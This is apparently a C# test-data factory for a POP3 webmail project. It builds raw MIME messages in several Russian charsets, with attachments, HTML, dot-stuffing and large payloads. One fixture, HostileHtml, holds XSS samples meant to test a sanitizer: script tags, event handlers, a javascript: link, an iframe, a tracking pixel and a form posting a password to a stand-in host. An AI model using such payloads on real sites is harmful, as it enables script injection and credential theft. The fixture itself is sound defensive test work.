using System.Globalization;
using System.Runtime.InteropServices;
using System.Security.Cryptography;
using System.Text;

namespace Pop3Webmail.Testing;

/// <summary>The legacy and modern charsets Russian mail arrives in.</summary>
public enum RussianCharset
{
    Koi8R,
    Windows1251,
    Utf8,
}

/// <summary>
/// Generates realistic messages byte for byte (no MIME library in between, so the encodings are exactly the ones a
/// test asks for). Every message has From, To, Subject, Date, Message-ID and MIME-Version headers.
/// </summary>
public static class MessageFactory
{
    /// <summary>A Russian pangram: every lower-case letter of the alphabet, ё and ъ included.</summary>
    public const string RussianPangram = "Съешь же ещё этих мягких французских булок, да выпей чаю";

    /// <summary>A Russian pangram in capitals.</summary>
    public const string RussianCapitalPangram = "ЭХ, ЧУЖАК! ОБЩИЙ СЪЁМ ЦЕН ШЛЯП (ЮФТЬ) - ВДРЫЗГ!";

    public const string DefaultFromName = "Alice Example";
    public const string DefaultFromAddress = "alice@example.test";
    public const string DefaultTo = "Bob Example <bob@example.test>";

    /// <summary>The name of the Russian attachment in <see cref="WithAttachments"/>.</summary>
    public const string RussianAttachmentName = "Отчёт.pdf";

    /// <summary>The Content-ID of the inline image in <see cref="Html"/>.</summary>
    public const string InlineImageContentId = "chart@pop3webmail.test";

    private static readonly Encoding Koi8R = LegacyEncoding("koi8-r");
    private static readonly Encoding Windows1251 = LegacyEncoding("windows-1251");
    private static readonly Encoding Utf8 = new UTF8Encoding(encoderShouldEmitUTF8Identifier: false);

    private static readonly (string Name, string Address)[] Senders =
    [
        ("Alice Example", "alice@example.test"),
        ("Boris Ivanov", "boris@example.test"),
        ("Carol Smith", "carol@example.test"),
        ("Dmitri Sokolov", "dmitri@example.test"),
        ("Eve Jones", "eve@example.test"),
        ("Fyodor Orlov", "fyodor@example.test"),
        ("Grace Lee", "grace@example.test"),
    ];

    /// <summary>The header charset label of <paramref name="charset"/> as mailers write it.</summary>
    public static string CharsetName(RussianCharset charset) => charset switch
    {
        RussianCharset.Koi8R => "koi8-r",
        RussianCharset.Windows1251 => "windows-1251",
        RussianCharset.Utf8 => "utf-8",
        _ => throw new ArgumentOutOfRangeException(nameof(charset)),
    };

    /// <summary>Three plain messages, "First", "Second" and "Third", an hour apart from <paramref name="date"/>.</summary>
    public static TestMessage[] FirstSecondThird(DateTimeOffset date) =>
    [
        Plain("First", "One.", date),
        Plain("Second", "Two.", date.AddHours(1)),
        Plain("Third", "Three.", date.AddHours(2)),
    ];

    /// <summary>A plain-text message. Non-ASCII subject and names are RFC 2047 UTF-8, a non-ASCII body 8-bit UTF-8.</summary>
    public static TestMessage Plain(string subject, string body, DateTimeOffset date, string fromName = DefaultFromName, string fromAddress = DefaultFromAddress)
    {
        ArgumentNullException.ThrowIfNull(subject);
        ArgumentNullException.ThrowIfNull(body);
        var messageId = MessageId("plain", subject, date);
        var writer = new MessageWriter(512 + (body.Length * 2));
        WriteEnvelope(writer, EncodeMailbox(fromName, fromAddress, Utf8, 'B'), EncodeText(subject, Utf8, 'B'), date, messageId);
        var ascii = Ascii.IsValid(body);
        writer.Header("Content-Type", ascii ? "text/plain; charset=us-ascii" : "text/plain; charset=utf-8");
        writer.Header("Content-Transfer-Encoding", ascii ? "7bit" : "8bit");
        writer.Line();
        writer.Text(body, Utf8);
        return new TestMessage
        {
            Content = writer.ToArray(),
            Subject = subject,
            Date = date,
            FromName = fromName,
            FromAddress = fromAddress,
            MessageId = messageId,
            Text = body,
        };
    }

    /// <summary>
    /// Russian mail in <paramref name="charset"/>: the subject (<see cref="RussianPangram"/> plus the charset label)
    /// and sender name as RFC 2047 encoded words (KOI8-R and UTF-8 as B, windows-1251 as Q) or, with
    /// <paramref name="rawHeaders"/>, as bare 8-bit bytes the way careless mailers send them; the body in the same
    /// charset (KOI8-R 8bit, windows-1251 quoted-printable, UTF-8 base64).
    /// </summary>
    public static TestMessage Russian(RussianCharset charset, DateTimeOffset date, bool rawHeaders = false)
    {
        var encoding = charset switch
        {
            RussianCharset.Koi8R => Koi8R,
            RussianCharset.Windows1251 => Windows1251,
            _ => Utf8,
        };
        var label = charset switch
        {
            RussianCharset.Koi8R => "KOI8-R",
            RussianCharset.Windows1251 => "windows-1251",
            _ => "UTF-8",
        };
        var mode = charset == RussianCharset.Windows1251 ? 'Q' : 'B';
        const string fromName = "Иван Петров";
        const string fromAddress = "ivan.petrov@example.ru";
        var subject = $"{RussianPangram} ({label}{(rawHeaders ? ", 8-bit" : string.Empty)})";
        var body = $"""
            Здравствуйте, коллеги!

            Отчёт о встрече во вторник: обсудили план на ёлочный базар.
            {RussianPangram}.
            {RussianCapitalPangram}

            С уважением,
            {fromName}
            """;

        var messageId = MessageId("ru", subject, date);
        var writer = new MessageWriter(2048);
        if (rawHeaders)
        {
            writer.Header("From", [.. encoding.GetBytes(fromName), .. " <"u8, .. Encoding.ASCII.GetBytes(fromAddress), (byte)'>']);
            writer.Header("To", DefaultTo);
            writer.Header("Subject", encoding.GetBytes(subject));
            WriteDateAndId(writer, date, messageId);
        }
        else
        {
            WriteEnvelope(writer, EncodeMailbox(fromName, fromAddress, encoding, mode), EncodeText(subject, encoding, mode), date, messageId);
        }

        writer.Header("Content-Type", $"text/plain; charset={CharsetName(charset)}");
        switch (charset)
        {
            case RussianCharset.Koi8R:
                writer.Header("Content-Transfer-Encoding", "8bit");
                writer.Line();
                writer.Text(body, encoding);
                break;
            case RussianCharset.Windows1251:
                writer.Header("Content-Transfer-Encoding", "quoted-printable");
                writer.Line();
                writer.QuotedPrintable(body, encoding);
                break;
            default:
                writer.Header("Content-Transfer-Encoding", "base64");
                writer.Line();
                writer.Base64(encoding.GetBytes(body.ReplaceLineEndings("\r\n") + "\r\n"));
                break;
        }

        return new TestMessage
        {
            Content = writer.ToArray(),
            Subject = subject,
            Date = date,
            FromName = fromName,
            FromAddress = fromAddress,
            MessageId = messageId,
            Text = body,
        };
    }

    /// <summary>
    /// multipart/mixed: a text part, a PDF (<see cref="SampleFiles.Pdf"/>) named <see cref="RussianAttachmentName"/>
    /// (RFC 2231 filename*, RFC 2047 name for old readers) and a PNG (<see cref="SampleFiles.Png"/>) "chart.png".
    /// </summary>
    public static TestMessage WithAttachments(string subject, DateTimeOffset date)
    {
        ArgumentNullException.ThrowIfNull(subject);
        const string text = "Hello Bob,\n\nthe report and the chart are attached.\n\nAlice";
        var messageId = MessageId("mixed", subject, date);
        var boundary = "=_p3w_mixed_" + messageId[..12];
        var writer = new MessageWriter(8192);
        WriteEnvelope(writer, EncodeMailbox(DefaultFromName, DefaultFromAddress, Utf8, 'B'), EncodeText(subject, Utf8, 'B'), date, messageId);
        writer.Header("Content-Type", $"multipart/mixed; boundary=\"{boundary}\"");
        writer.Line();
        writer.Line("This is a multi-part message in MIME format.");
        writer.Line("--" + boundary);
        writer.Header("Content-Type", "text/plain; charset=us-ascii");
        writer.Header("Content-Transfer-Encoding", "7bit");
        writer.Line();
        writer.Text(text, Utf8);
        writer.Line("--" + boundary);
        var encodedName = EncodeText(RussianAttachmentName, Utf8, 'B');
        writer.Header("Content-Type", $"application/pdf;\r\n name=\"{encodedName}\"");
        writer.Header("Content-Disposition", $"attachment;\r\n filename*=utf-8''{Uri.EscapeDataString(RussianAttachmentName)}");
        writer.Header("Content-Transfer-Encoding", "base64");
        writer.Line();
        writer.Base64(SampleFiles.Pdf);
        writer.Line("--" + boundary);
        writer.Header("Content-Type", "image/png; name=\"chart.png\"");
        writer.Header("Content-Disposition", "attachment; filename=\"chart.png\"");
        writer.Header("Content-Transfer-Encoding", "base64");
        writer.Line();
        writer.Base64(SampleFiles.Png);
        writer.Line("--" + boundary + "--");
        return new TestMessage
        {
            Content = writer.ToArray(),
            Subject = subject,
            Date = date,
            FromName = DefaultFromName,
            FromAddress = DefaultFromAddress,
            MessageId = messageId,
            Text = text,
            HasAttachments = true,
            AttachmentNames = [RussianAttachmentName, "chart.png"],
        };
    }

    /// <summary>
    /// An HTML mail as Outlook and Thunderbird send it: multipart/related holding multipart/alternative (plain and
    /// quoted-printable UTF-8 HTML) and an inline PNG referenced as cid:<see cref="InlineImageContentId"/>.
    /// </summary>
    public static TestMessage Html(string subject, DateTimeOffset date, string? html = null)
    {
        ArgumentNullException.ThrowIfNull(subject);
        html ??= $"""
            <!DOCTYPE html>
            <html><head><meta charset="utf-8"><title>Report</title></head>
            <body>
            <h1>Quarterly report</h1>
            <p>Hello <b>Bob</b>, the chart is below. Привет!</p>
            <p><img src="cid:{InlineImageContentId}" alt="chart" width="24" height="24"></p>
            <p><a href="https://example.test/report">Full report</a></p>
            </body></html>
            """;
        const string plain = "Quarterly report\n\nHello Bob, the chart is in the HTML version. Привет!";
        var messageId = MessageId("html", subject, date);
        var related = "=_p3w_related_" + messageId[..12];
        var alternative = "=_p3w_alternative_" + messageId[..12];
        var writer = new MessageWriter(8192);
        WriteEnvelope(writer, EncodeMailbox(DefaultFromName, DefaultFromAddress, Utf8, 'B'), EncodeText(subject, Utf8, 'B'), date, messageId);
        writer.Header("Content-Type", $"multipart/related; type=\"multipart/alternative\";\r\n boundary=\"{related}\"");
        writer.Line();
        writer.Line("--" + related);
        writer.Header("Content-Type", $"multipart/alternative; boundary=\"{alternative}\"");
        writer.Line();
        writer.Line("--" + alternative);
        writer.Header("Content-Type", "text/plain; charset=utf-8");
        writer.Header("Content-Transfer-Encoding", "quoted-printable");
        writer.Line();
        writer.QuotedPrintable(plain, Utf8);
        writer.Line("--" + alternative);
        writer.Header("Content-Type", "text/html; charset=utf-8");
        writer.Header("Content-Transfer-Encoding", "quoted-printable");
        writer.Line();
        writer.QuotedPrintable(html, Utf8);
        writer.Line("--" + alternative + "--");
        writer.Line("--" + related);
        writer.Header("Content-Type", "image/png; name=\"chart.png\"");
        writer.Header("Content-Disposition", "inline; filename=\"chart.png\"");
        writer.Header("Content-ID", $"<{InlineImageContentId}>");
        writer.Header("Content-Transfer-Encoding", "base64");
        writer.Line();
        writer.Base64(SampleFiles.Png);
        writer.Line("--" + related + "--");
        return new TestMessage
        {
            Content = writer.ToArray(),
            Subject = subject,
            Date = date,
            FromName = DefaultFromName,
            FromAddress = DefaultFromAddress,
            MessageId = messageId,
            Text = html,
        };
    }

    /// <summary>
    /// A single-part HTML mail full of what a sanitizer must remove: script, event handlers, javascript: links,
    /// an iframe, a form, a remote tracking image and CSS that covers the page.
    /// </summary>
    public static TestMessage HostileHtml(DateTimeOffset date)
    {
        const string html = """
            <html><head><script>document.title = 'pwned-head';</script>
            <style>body { position: fixed; top: 0; left: 0; width: 100%; height: 100%; }</style></head>
            <body onload="document.title = 'pwned-onload'">
            <p>Visible text survives.</p>
            <script>window.pwned = true;</script>
            <img src="x" onerror="window.pwned = true">
            <img src="http://tracker.example.test/pixel.gif" alt="tracker">
            <a href="javascript:alert(1)">click me</a>
            <iframe src="https://evil.example.test/"></iframe>
            <form action="https://evil.example.test/steal"><input name="password"></form>
            <svg><script>window.pwned = true;</script></svg>
            </body></html>
            """;
        const string subject = "Hostile HTML";
        var messageId = MessageId("hostile", subject, date);
        var writer = new MessageWriter(2048);
        WriteEnvelope(writer, EncodeMailbox("Mallory", "mallory@evil.example.test", Utf8, 'B'), subject, date, messageId);
        writer.Header("Content-Type", "text/html; charset=utf-8");
        writer.Header("Content-Transfer-Encoding", "quoted-printable");
        writer.Line();
        writer.QuotedPrintable(html, Utf8);
        return new TestMessage
        {
            Content = writer.ToArray(),
            Subject = subject,
            Date = date,
            FromName = "Mallory",
            FromAddress = "mallory@evil.example.test",
            MessageId = messageId,
            Text = html,
        };
    }

    /// <summary>
    /// A body whose lines start with dots, including a line of a single "." in the middle and as the very last line,
    /// so byte-stuffing (RFC 1939 §3) must be undone exactly.
    /// </summary>
    public static TestMessage DotStuffing(DateTimeOffset date)
    {
        const string body = ".\n..\n...three dots\n.hidden line\n. space after dot\nplain line\n.\n.\n..end\nlast but one\n.";
        return Plain("Lines that start with dots", body, date);
    }

    /// <summary>
    /// A multipart/mixed message of about <paramref name="approximateSize"/> octets: a short text part and a base64
    /// attachment "large.bin" of deterministic pseudo-random bytes.
    /// </summary>
    public static TestMessage Large(int approximateSize, DateTimeOffset date, int seed = 20)
    {
        ArgumentOutOfRangeException.ThrowIfLessThan(approximateSize, 4096);
        var subject = $"Large message of about {approximateSize / (1024 * 1024.0):0.#} MiB";
        var messageId = MessageId("large", subject, date);
        var boundary = "=_p3w_large_" + messageId[..12];
        var payload = new byte[(long)(approximateSize - 1024) * 57 / 78];
        FillPseudoRandom(payload, seed);
        var writer = new MessageWriter(approximateSize + 4096);
        WriteEnvelope(writer, EncodeMailbox(DefaultFromName, DefaultFromAddress, Utf8, 'B'), subject, date, messageId);
        writer.Header("Content-Type", $"multipart/mixed; boundary=\"{boundary}\"");
        writer.Line();
        writer.Line("--" + boundary);
        writer.Header("Content-Type", "text/plain; charset=us-ascii");
        writer.Line();
        writer.Line("A large attachment follows.");
        writer.Line("--" + boundary);
        writer.Header("Content-Type", "application/octet-stream; name=\"large.bin\"");
        writer.Header("Content-Disposition", "attachment; filename=\"large.bin\"");
        writer.Header("Content-Transfer-Encoding", "base64");
        writer.Line();
        writer.Base64(payload);
        writer.Line("--" + boundary + "--");
        return new TestMessage
        {
            Content = writer.ToArray(),
            Subject = subject,
            Date = date,
            FromName = DefaultFromName,
            FromAddress = DefaultFromAddress,
            MessageId = messageId,
            Text = "A large attachment follows.",
            HasAttachments = true,
            AttachmentNames = ["large.bin"],
        };
    }

    /// <summary>
    /// A small, fast-to-make message for big mailboxes: subject "Message 00042: status update", senders in rotation.
    /// </summary>
    public static TestMessage Numbered(int number, DateTimeOffset date)
    {
        var (name, address) = Senders[number % Senders.Length];
        var subject = NumberedSubject(number);
        var messageId = string.Create(CultureInfo.InvariantCulture, $"n{number}.{date.ToUnixTimeSeconds()}@pop3webmail.test");
        var text = string.Create(CultureInfo.InvariantCulture,
            $"Hello,\n\nthis is message number {number}, sent {date:yyyy-MM-dd HH:mm}.\nNothing else to report.\n\n{name}");
        var writer = new MessageWriter(640);
        WriteEnvelope(writer, $"\"{name}\" <{address}>", subject, date, messageId);
        writer.Header("Content-Type", "text/plain; charset=us-ascii");
        writer.Header("Content-Transfer-Encoding", "7bit");
        writer.Line();
        writer.Text(text, Utf8);
        return new TestMessage
        {
            Content = writer.ToArray(),
            Subject = subject,
            Date = date,
            FromName = name,
            FromAddress = address,
            MessageId = messageId,
            Text = text,
        };
    }

    /// <summary>The subject <see cref="Numbered"/> gives message <paramref name="number"/>.</summary>
    public static string NumberedSubject(int number) => string.Create(CultureInfo.InvariantCulture, $"Message {number:D5}: status update");

    /// <summary>An RFC 5322 §3.3 date-time, e.g. "Mon, 1 Jan 2024 10:00:00 +0300".</summary>
    public static string FormatDate(DateTimeOffset date)
    {
        var offset = date.Offset;
        var sign = offset < TimeSpan.Zero ? '-' : '+';
        offset = offset.Duration();
        return string.Create(CultureInfo.InvariantCulture, $"{date:ddd, d MMM yyyy HH:mm:ss} {sign}{offset.Hours:D2}{offset.Minutes:D2}");
    }

    /// <summary>
    /// RFC 2047 encoded words for <paramref name="text"/> in <paramref name="encoding"/> ('B' base64 or 'Q'),
    /// each at most 75 characters and folded onto continuation lines. Pure ASCII text is returned as is.
    /// </summary>
    public static string EncodeText(string text, Encoding encoding, char mode)
    {
        ArgumentNullException.ThrowIfNull(text);
        ArgumentNullException.ThrowIfNull(encoding);
        if (Ascii.IsValid(text) && !text.Contains("=?", StringComparison.Ordinal))
        {
            return text;
        }

        var charset = encoding.WebName;
        var words = new List<string>();
        var chunk = new List<byte>();
        foreach (var rune in text.EnumerateRunes())
        {
            var bytes = encoding.GetBytes(rune.ToString());
            // 36 octets make 48 base64 characters; Q words are kept to a similar length. With the longest
            // charset name ("windows-1251") an encoded word stays within RFC 2047 §2's 75 characters.
            var limit = mode == 'B' ? 36 : 16;
            if (chunk.Count + bytes.Length > limit)
            {
                words.Add(EncodedWord(charset, mode, chunk));
                chunk.Clear();
            }

            chunk.AddRange(bytes);
        }

        if (chunk.Count > 0)
        {
            words.Add(EncodedWord(charset, mode, chunk));
        }

        return string.Join("\r\n ", words);
    }

    private static string EncodedWord(string charset, char mode, List<byte> bytes)
    {
        if (mode == 'B')
        {
            return $"=?{charset}?B?{Convert.ToBase64String(bytes.ToArray())}?=";
        }

        // RFC 2047 §4.2 and §5 (3): in a phrase only letters, digits and a few specials may stay literal.
        var q = new StringBuilder();
        foreach (var b in bytes)
        {
            if (b == (byte)' ')
            {
                q.Append('_');
            }
            else if (b is >= (byte)'a' and <= (byte)'z' or >= (byte)'A' and <= (byte)'Z' or >= (byte)'0' and <= (byte)'9')
            {
                q.Append((char)b);
            }
            else
            {
                q.Append(CultureInfo.InvariantCulture, $"={b:X2}");
            }
        }

        return $"=?{charset}?Q?{q}?=";
    }

    private static string EncodeMailbox(string name, string address, Encoding encoding, char mode) =>
        Ascii.IsValid(name)
            ? $"\"{name.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal)}\" <{address}>"
            : $"{EncodeText(name, encoding, mode)} <{address}>";

    private static void WriteEnvelope(MessageWriter writer, string from, string subject, DateTimeOffset date, string messageId)
    {
        writer.Header("From", from);
        writer.Header("To", DefaultTo);
        writer.Header("Subject", subject);
        WriteDateAndId(writer, date, messageId);
    }

    private static void WriteDateAndId(MessageWriter writer, DateTimeOffset date, string messageId)
    {
        writer.Header("Date", FormatDate(date));
        writer.Header("Message-ID", $"<{messageId}>");
        writer.Header("MIME-Version", "1.0");
    }

    private static string MessageId(string kind, string subject, DateTimeOffset date)
    {
        var hash = Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(subject + "\n" + FormatDate(date))))[..16];
        return string.Create(CultureInfo.InvariantCulture, $"{hash}.{kind}.{date.ToUnixTimeSeconds()}@pop3webmail.test");
    }

    /// <summary>
    /// Deterministic incompressible bytes (xorshift64*), eight at a time: a seeded System.Random produces bytes one by
    /// one with its legacy algorithm, which is slow for megabytes.
    /// </summary>
    private static void FillPseudoRandom(Span<byte> destination, int seed)
    {
        var state = 0x9E3779B97F4A7C15UL ^ (ulong)(uint)seed;
        var words = MemoryMarshal.Cast<byte, ulong>(destination);
        for (var i = 0; i < words.Length; i++)
        {
            state ^= state >> 12;
            state ^= state << 25;
            state ^= state >> 27;
            words[i] = state * 0x2545F4914F6CDD1DUL;
        }

        for (var i = words.Length * sizeof(ulong); i < destination.Length; i++)
        {
            destination[i] = (byte)(i * 31);
        }
    }

    private static Encoding LegacyEncoding(string name)
    {
        // KOI8-R and windows-1251 live in the code-pages provider on .NET (Core).
        Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        return Encoding.GetEncoding(name);
    }
}
